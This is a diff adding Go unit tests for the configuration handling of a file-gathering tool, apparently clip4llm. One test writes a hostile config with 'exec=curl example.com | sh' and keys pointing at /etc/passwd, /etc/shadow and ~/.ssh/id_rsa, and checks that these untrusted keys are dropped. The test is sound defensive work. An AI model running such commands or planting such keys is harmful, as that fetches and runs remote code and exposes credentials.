@@ -0,0 +1,198 @@
+package main
+
+import (
+	"flag"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestExpandConfigValue(t *testing.T) {
+	t.Setenv("CLIP4LLM_TEST_DIR", "/srv/prompts")
+	cases := map[string]string{
+		"${CLIP4LLM_TEST_DIR}/review.tmpl": "/srv/prompts/review.tmpl",
+		"${CLIP4LLM_TEST_UNSET}x":          "x",
+		"token-[0-9]+$":                    "token-[0-9]+$",
+		"$CLIP4LLM_TEST_DIR":               "$CLIP4LLM_TEST_DIR",
+	}
+	for value, want := range cases {
+		if got := expandConfigValue(value, false); got != want {
+			t.Errorf("expandConfigValue(%q) = %q, want %q", value, got, want)
+		}
+	}
+}
+
+func TestSelectProfile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), ".clip4llm")
+	content := "exclude=*.md\nmax-size=32\n\n[review]\nexclude=*_test.go\n\n[docs]\ninclude=*.md\nexclude=\n"
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	config := make(map[string]string)
+	loadConfigFromFile(path, config, false)
+
+	base, err := selectProfile(config, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(base) != 2 || base["exclude"] != "*.md" || base["max-size"] != "32" {
+		t.Errorf("without a profile got %v", base)
+	}
+
+	docs, err := selectProfile(config, "docs")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if docs["include"] != "*.md" || docs["exclude"] != "" || docs["max-size"] != "32" {
+		t.Errorf("docs profile got %v", docs)
+	}
+
+	if _, err := selectProfile(config, "frontend"); err == nil {
+		t.Error("expected an error for an undefined profile")
+	}
+}
+
+func TestFileOverrides(t *testing.T) {
+	path := filepath.Join(t.TempDir(), ".clip4llm")
+	content := "max-size=32\n[*.sql]\nmax-size=256\n[*.min.js]\nexclude=true\n[*.js]\nmax-size=64\nexclude=false\n[review]\nmax-size=8\n"
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	config := make(map[string]string)
+	loadConfigFromFile(path, config, false)
+
+	excludes, limits := fileOverrides(config, false)
+	if len(excludes) != 1 || excludes[0] != "*.min.js" {
+		t.Errorf("excludes = %v, want [*.min.js]", excludes)
+	}
+	if len(limits) != 2 || limits[0].Pattern != "*.sql" || limits[0].MaxSize != 256 || limits[1].Pattern != "*.js" {
+		t.Errorf("limits = %+v, want *.sql then *.js", limits)
+	}
+
+	review, err := selectProfile(config, "review")
+	if err != nil || review["max-size"] != "8" {
+		t.Errorf("review profile = %v, %v", review, err)
+	}
+}
+
+func TestDropUntrustedKeys(t *testing.T) {
+	path := filepath.Join(t.TempDir(), ".clip4llm")
+	content := "exclude=*.md\nexec=curl example.com | sh\noutput=/etc/passwd\nforce=true\n" +
+		"report-json=/tmp/victim.txt\ntemplate=/etc/passwd\nfrom=~/.ssh/id_rsa\narchive=/tmp/a.zip\n" +
+		"include-from=/etc/shadow\nexclude-from=/etc/hosts\nfollow-symlinks=true\npatch=/etc/passwd\n" +
+		"redact:token=tok_[0-9]+\nlanguage:*.tpl=go-template\n" +
+		"[review]\ndb-schema=postgres://db/prod\nrepo=github.com/org/name\nsensitive-dirs=\ninclude=*.go\n" +
+		"[*.sql]\nmax-size=256\ntemplate=/etc/passwd\n"
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	config := make(map[string]string)
+	loadConfigFromFile(path, config, false)
+
+	kept := dropUntrustedKeys(config, path)
+	want := map[string]string{
+		"exclude":                 "*.md",
+		"redact:token":            "tok_[0-9]+",
+		"language:*.tpl":          "go-template",
+		"[review]include":         "*.go",
+		"[pattern *.sql]max-size": "256",
+	}
+	if len(kept) != len(want) {
+		t.Fatalf("kept %v, want %v", kept, want)
+	}
+	for key, value := range want {
+		if kept[key] != value {
+			t.Errorf("kept[%q] = %q, want %q", key, kept[key], value)
+		}
+	}
+}
+
+func TestLanguageOverrides(t *testing.T) {
+	config := map[string]string{
+		"language:*.tpl":         "go-template",
+		"language:Dockerfile*":   "dockerfile",
+		"language:web/**/*.tpl":  "handlebars",
+		"language:":              "go",
+		"languages":              "ignored",
+		"[*.tpl] language:*.tpl": "profile only",
+	}
+	var got []string
+	for _, override := range languageOverrides(config) {
+		got = append(got, override.Pattern+"="+override.Language)
+	}
+	want := []string{"web/**/*.tpl=handlebars", "Dockerfile*=dockerfile", "*.tpl=go-template"}
+	if strings.Join(got, " ") != strings.Join(want, " ") {
+		t.Errorf("got %v, want %v", got, want)
+	}
+}
+
+func TestApplyConfigReload(t *testing.T) {
+	saved := flag.CommandLine
+	defer func() { flag.CommandLine = saved }()
+	flag.CommandLine = flag.NewFlagSet("clip4llm", flag.ContinueOnError)
+	exclude := flag.String("exclude", "", "")
+	maxSize := flag.Int("max-size", 32, "")
+	var roots repeatedFlag
+	flag.Var(&roots, "root", "")
+	if err := flag.CommandLine.Parse([]string{"--max-size", "64"}); err != nil {
+		t.Fatal(err)
+	}
+	given := commandLineFlags()
+
+	applyConfig(map[string]string{"exclude": "*.md", "max-size": "8", "root": "docs"}, given, false)
+	if *exclude != "*.md" || *maxSize != 64 || len(roots) != 1 {
+		t.Errorf("first load got exclude=%q max-size=%d roots=%v", *exclude, *maxSize, roots)
+	}
+
+	// A reload drops the removed keys and does not repeat the others
+	applyConfig(map[string]string{"root": "src"}, given, false)
+	if *exclude != "" || *maxSize != 64 || len(roots) != 1 || roots[0] != "src" {
+		t.Errorf("reload got exclude=%q max-size=%d roots=%v", *exclude, *maxSize, roots)
+	}
+}
+
+func TestConfigSections(t *testing.T) {
+	path := filepath.Join(t.TempDir(), ".clip4llm")
+	content := "[profile v1.2]\nmax-size=8\n[pattern generated]\nexclude=true\n[*.sql]\nmax-size=256\n[go.sum]\nexclude=true\n[review]\nmax-size=16\n"
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	config := make(map[string]string)
+	loadConfigFromFile(path, config, false)
+
+	for name, want := range map[string]string{"v1.2": "8", "review": "16"} {
+		profile, err := selectProfile(config, name)
+		if err != nil || profile["max-size"] != want {
+			t.Errorf("profile %s = %v, %v", name, profile, err)
+		}
+	}
+	if _, err := selectProfile(config, "generated"); err == nil {
+		t.Error("[pattern generated] should not define a profile")
+	}
+
+	excludes, limits := fileOverrides(config, false)
+	if strings.Join(excludes, " ") != "generated go.sum" {
+		t.Errorf("excludes = %v, want [generated go.sum]", excludes)
+	}
+	if len(limits) != 1 || limits[0].Pattern != "*.sql" {
+		t.Errorf("limits = %+v, want *.sql only", limits)
+	}
+}
+
+func TestConfigChanges(t *testing.T) {
+	before := map[string]string{"exclude": "*.md", "max-size": "32", "tree": "true"}
+	after := map[string]string{"exclude": "*.md,vendor", "max-size": "32", "[pattern *.sql]max-size": "256"}
+	want := []string{
+		`[pattern *.sql]max-size: (unset) → "256"`,
+		`exclude: "*.md" → "*.md,vendor"`,
+		`tree: "true" → (unset)`,
+	}
+	if got := configChanges(before, after); !reflect.DeepEqual(got, want) {
+		t.Errorf("configChanges =\n%q\nwant\n%q", got, want)
+	}
+	if got := configChanges(before, before); len(got) != 0 {
+		t.Errorf("configChanges without changes = %q", got)
+	}
+}